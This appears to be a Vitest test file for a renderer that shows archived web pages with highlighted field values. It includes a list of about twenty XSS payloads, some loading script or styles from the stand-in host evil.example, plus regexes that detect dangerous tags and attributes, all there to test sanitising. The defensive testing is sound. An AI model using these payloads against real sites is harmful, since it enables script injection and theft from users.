import { describe, expect, it } from 'vitest'
import { type Mark, renderArchivedPage } from '../../../src/web/archived-page.ts'

const mark = (source: string, text: string, id = 'e-x'): Mark => {
  const start = source.indexOf(text)
  return { id, label: '字段', span: { start, end: start + text.length } }
}

describe('an archived page, shown', () => {
  it('marks the stretch that a value was read from', () => {
    const source = '<p>项目名称：合成的学校食堂</p>'
    expect(renderArchivedPage(source, [mark(source, '合成的学校食堂')])).toBe('<p>项目名称：<mark id="e-x" title="字段">合成的学校食堂</mark></p>')
  })

  it('marks across elements, with one id', () => {
    const source = '<p>金额：<b>12</b><i>34</i>元</p>'
    const start = source.indexOf('12')
    const html = renderArchivedPage(source, [{ id: 'a', label: 'x', span: { start, end: source.indexOf('元') } }])
    expect(html).toBe('<p>金额：<b><mark id="a" title="x">12</mark></b><i><mark title="x">34</mark></i>元</p>')
  })

  it('lets each of two fields of one stretch be jumped to', () => {
    const source = '<p>预算（最高限价）：9元</p>'
    const [a, b] = [mark(source, '9元', 'a'), mark(source, '9元', 'b')]
    expect(renderArchivedPage(source, [a, b])).toContain('<mark id="a" title="字段 · 字段"><span id="b">9元</span></mark>')
  })

  it('never marks between the cells of a table', () => {
    const source = '<table><tr><td>a</td> <td>b</td></tr></table>'
    const html = renderArchivedPage(source, [{ id: 'a', label: 'x', span: { start: source.indexOf('a</td>'), end: source.indexOf('b<') + 1 } }])
    expect(html).toContain('<td><mark id="a" title="x">a</mark></td> <td><mark title="x">b</mark></td>')
  })

  it('keeps entities as they were served', () => {
    expect(renderArchivedPage('<p>A&amp;B&nbsp;&lt;script&gt;</p>', [])).toBe('<p>A&amp;B&nbsp;&lt;script&gt;</p>')
  })

  const hostile = [
    '<script>alert(1)</script>text',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>text',
    '<img src=x onerror=alert(1)>text',
    '<p onclick="alert(1)" style="background:url(//evil.example)">text</p>',
    '<a href="javascript:alert(1)">text</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>text',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>text',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">y</mi></math>text',
    '<meta http-equiv=refresh content="0;url=//evil.example">text',
    '<base href="//evil.example/">text',
    '<form action="//evil.example"><input name=a onfocus=alert(1) autofocus>text</form>',
    '<link rel=stylesheet href=//evil.example/x.css>text',
    '<style>@import "//evil.example/x.css";</style>text',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>text',
    '<table background="//evil.example/x.png"><tr><td background="javascript:alert(1)">text</td></tr></table>',
    '<p title="><script>alert(1)</script>">text</p>',
    '<!--><script>alert(1)</script>-->text',
    '<object data="//evil.example/x.swf"></object><embed src=//evil.example/x.swf>text',
    '<td width="1 onmouseover=alert(1)">text</td>',
    '<video><source onerror=alert(1)></video>text',
    '<<script>alert(1);//<</script>text',
    '<p/onclick=alert(1)>text',
  ]
  it.each(hostile)('makes harmless: %s', (source) => {
    const html = renderArchivedPage(source, [mark(source, 'text')])
    const tags = [...html.matchAll(/<[^>]*>/g)].map(([tag]) => tag)
    for (const tag of tags) {
      expect(tag).not.toMatch(/<\/?(script|style|iframe|svg|math|meta|base|form|input|link|object|embed|img|video|source|noscript)\b/i)
      expect(tag).not.toMatch(/\son\w+\s*=|javascript:|evil\.example|\bstyle=|\bhref=|\bsrc=/i)
    }
    expect(html).toContain('text')
  })

  it('closes what the page left open', () => {
    expect(renderArchivedPage('<div><p>one<div>two', [])).toMatch(/^<div>.*<\/div>$/)
  })

  it('takes deep nesting', () => {
    expect(renderArchivedPage('<div>'.repeat(50_000), []).length).toBeGreaterThan(0)
  })
})
